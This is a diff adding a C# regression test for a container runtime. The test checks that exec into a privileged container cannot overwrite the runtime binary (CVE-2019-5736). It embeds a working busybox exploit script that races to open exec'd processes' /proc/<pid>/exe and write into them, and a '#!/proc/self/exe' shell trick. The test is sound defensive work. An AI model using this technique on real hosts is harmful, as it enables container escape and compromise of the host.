@@ -56,6 +56,111 @@ public sealed class HardeningTests
         }
     }
 
+    /// <summary>
+    /// The container's side of CVE-2019-5736 through exec: it watches for each new process in its pid
+    /// namespace, opens that process's executable the moment the process exists, and once nothing
+    /// executes the file any more (ETXTBSY ends when the exec's runtime exits) writes into it. The
+    /// container's own busybox is left alone. Every attempt leaves one line in /tmp/attack.log.
+    /// </summary>
+    const string ExeAttack = """
+        #!/bin/busybox sh
+        exec 2>/dev/null
+        log=/tmp/attack.log
+        attack() {
+          target=$(readlink /proc/self/fd/3)
+          case "$target" in /bin/busybox) return;; esac
+          i=0
+          while [ $i -lt 3000 ]; do
+            if echo PWNED 2>/tmp/attack.err >>/proc/self/fd/3; then echo "overwrote $target" >>$log; return; fi
+            case "$(cat /tmp/attack.err)" in
+              *busy*) usleep 10000; i=$((i+1));;
+              *) echo "refused $target: $(cat /tmp/attack.err)" >>$log; return;;
+            esac
+          done
+          echo "gave up on $target" >>$log
+        }
+        echo ready >/tmp/attack.ready
+        # The next pid is predictable: open its executable as soon as it exists. The last pid given
+        # out in this namespace ends /proc/loadavg (ns_last_pid cannot be read a byte at a time).
+        while :; do
+          read _ _ _ _ last </proc/loadavg
+          n=$((last+1))
+          until command exec 3</proc/$n/exe; do
+            read _ _ _ _ last </proc/loadavg
+            [ "$last" -gt "$n" ] && n=$last
+          done
+          attack
+          exec 3<&-
+        done
+        """;
+
+    /// <summary>
+    /// CVE-2019-5736 through `exec` into a privileged container (every capability, no seccomp, nothing
+    /// masked or read-only: runc and crun hold there too). The container's /bin/sh is `#!/proc/self/exe`
+    /// and a loop started by its init tries to write into the executable of every process exec puts into
+    /// the container; the moat binary must come out unchanged. The binary under attack is a copy of
+    /// bin/moat, so that a failing test cannot destroy the build.
+    /// </summary>
+    [Fact]
+    public void ExecIntoAPrivilegedContainerCannotOverwriteTheBinary()
+    {
+        using var bundle = new TestBundle("/bin/busybox", "sh", "-c", "/bin/attack & exec /bin/busybox sleep 1000");
+        var binary = Path.Combine(bundle.Directory, "moat-under-attack");
+        File.Copy(MoatCli.Binary, binary);
+        File.SetUnixFileMode(binary, (UnixFileMode)Convert.ToInt32("755", 8));
+        var original = System.Security.Cryptography.SHA256.HashData(File.ReadAllBytes(binary));
+
+        var held = HeldCapabilities();
+        bundle.Spec.Process!.Capabilities = new LinuxCapabilities
+        {
+            Bounding = [.. held], Effective = [.. held], Inheritable = [.. held], Permitted = [.. held], Ambient = [.. held],
+        };
+        bundle.Spec.Process.NoNewPrivileges = false;
+        bundle.Spec.Root!.Readonly = false;
+        bundle.Spec.Linux!.Seccomp = null;
+        bundle.Spec.Linux.MaskedPaths = null;
+        bundle.Spec.Linux.ReadonlyPaths = null;
+        var sh = Path.Combine(bundle.Rootfs, "bin", "sh");
+        File.Delete(sh);
+        File.WriteAllText(sh, "#!/proc/self/exe\n");
+        File.WriteAllText(Path.Combine(bundle.Rootfs, "bin", "attack"), ExeAttack.Replace("\r", "") + "\n");
+        foreach (var script in new[] { sh, Path.Combine(bundle.Rootfs, "bin", "attack") })
+            File.SetUnixFileMode(script, (UnixFileMode)Convert.ToInt32("755", 8));
+        bundle.Write();
+
+        MoatCli.Result Moat(params string[] args) => MoatCli.Exec(binary, ["--root", MoatCli.StateRoot, .. args]);
+        var id = bundle.NewId("cve");
+        Moat("run", "--detach", "--bundle", bundle.Directory, id).Ok();
+        var log = Path.Combine(bundle.Rootfs, "tmp", "attack.log");
+        Wait.Until(() => File.Exists(Path.Combine(bundle.Rootfs, "tmp", "attack.ready")), "the attack loop to start");
+        string[] Attempts() => File.Exists(log) ? File.ReadAllLines(log) : [];
+        bool Unchanged() => System.Security.Cryptography.SHA256.HashData(File.ReadAllBytes(binary)).AsSpan().SequenceEqual(original);
+
+        for (var i = 0; i < 5 && Unchanged(); i++)
+        {
+            var before = Attempts().Length;
+            Moat("exec", id, "/bin/sh");
+            // The loop may miss a process that came and went between two looks; it reports every one it caught.
+            var deadline = DateTime.UtcNow.AddSeconds(10);
+            while (Attempts().Length == before && DateTime.UtcNow < deadline)
+                Thread.Sleep(20);
+        }
+
+        var attempts = Attempts();
+        Assert.True(Unchanged(), "the container overwrote the moat binary:\n" + string.Join('\n', attempts));
+        Assert.DoesNotContain(attempts, a => a.StartsWith("overwrote", StringComparison.Ordinal));
+        // The attack did reach an exec'd process's executable, and was refused: the test was not vacuous.
+        Assert.Contains(attempts, a => a.StartsWith("refused", StringComparison.Ordinal));
+    }
+
+    /// <summary>The capabilities this process holds in its bounding set (the runtime cannot grant more).</summary>
+    static List<string> HeldCapabilities()
+    {
+        var line = File.ReadLines("/proc/self/status").First(l => l.StartsWith("CapBnd:", StringComparison.Ordinal));
+        var mask = Convert.ToUInt64(line["CapBnd:".Length..].Trim(), 16);
+        return Capabilities.Names.Where((_, number) => (mask & (1UL << number)) != 0).ToList();
+    }
+
     /// <summary>CVE-2024-21626: no host descriptor reaches the container process.</summary>
     [Fact]
     public void NoHostDescriptorLeaksIntoTheContainer()
